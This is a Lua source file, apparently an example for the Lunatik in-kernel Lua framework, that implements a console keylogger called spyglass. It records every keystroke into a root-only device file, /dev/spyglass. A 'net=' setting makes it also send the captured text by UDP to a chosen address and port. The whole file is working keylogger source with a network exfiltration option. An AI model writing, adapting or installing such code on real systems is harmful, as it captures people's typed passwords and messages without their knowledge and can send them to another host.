-- SPDX-License-Identifier: MIT OR GPL-2.0-only
-- Logs what is typed at the console, for whoever reads /dev/spyglass.
--   lunatik run examples/spyglass
--   tail -f /dev/spyglass
--   echo 'enable=false' >/dev/spyglass             stops logging; enable=true goes on
--   echo 'net=127.0.0.1:1337' >/dev/spyglass       sends what is read there, too, by UDP; net= does not
local device = require("device")
local inet = require("socket.inet")
local notifier = require("notifier")

local kbd, notify = notifier.kbd, notifier.notify

local LOG_MAX = 65536
local log = "" -- the last bytes that nobody has read

-- Kinds of keys, as the kernel's keysyms have them in their upper byte: those that are characters, and one that is not, but means one.
local LATIN, LETTER = 0xf0, 0xfb
local ENTER = 0xf201

local mnemonics = { [0] = "nul", "soh", "stx", "etx", "eot", "enq", "ack", "bel", "bs", "ht", "nl", "vt", "np", "cr", "so", "si", "dle",
  "dc1", "dc2", "dc3", "dc4", "nak", "syn", "etb", "can", "em", "sub", "esc", "fs", "gs", "rs", "us", [127] = "del" }

-- The text of a keysym; none of keys that are no characters.
local function to_text(event, keysym)
  if event == kbd.UNICODE then
    return utf8.char(keysym)
  end
  local kind, character = keysym >> 8, keysym & 0xff
  if keysym == ENTER then
    character = 13
  elseif kind ~= LATIN and kind ~= LETTER then
    return ""
  end
  local mnemonic = mnemonics[character]
  return mnemonic and "<" .. mnemonic .. ">" or utf8.char(character)
end

local is_enabled = true

notifier.keyboard(function(event, down, shift, key)
  if is_enabled and down and (event == kbd.KEYSYM or event == kbd.UNICODE) then
    log = (log .. to_text(event, key)):sub(-LOG_MAX)
  end
  return notify.OK
end)

local socket, address, port

local function send(text)
  socket = socket or inet.udp()
  pcall(socket.send, socket, text, address, port) -- nobody may listen
end

local settings = {}

function settings.enable(value)
  if value ~= "true" and value ~= "false" then
    error("enable=true or enable=false")
  end
  is_enabled = value == "true"
end

function settings.net(value)
  local host, number = value:match("^(%d+%.%d+%.%d+%.%d+):(%d+)$")
  if value ~= "" and not host then
    error("net=ADDRESS:PORT or net=")
  end
  address, port = host, math.tointeger(tonumber(number))
end

local spyglass = { name = "spyglass", mode = 384 } -- rw for root

function spyglass:open() end

function spyglass:release() end

function spyglass:read(length)
  local text = log:sub(1, length)
  log = log:sub(#text + 1)
  if address and text ~= "" then
    send(text)
  end
  return text
end

function spyglass:write(text)
  for name, value in text:gmatch("(%w+)=([^\n]*)") do
    local set = settings[name] or error("enable or net, not " .. name)
    set(value)
  end
  return #text
end

device.new(spyglass)
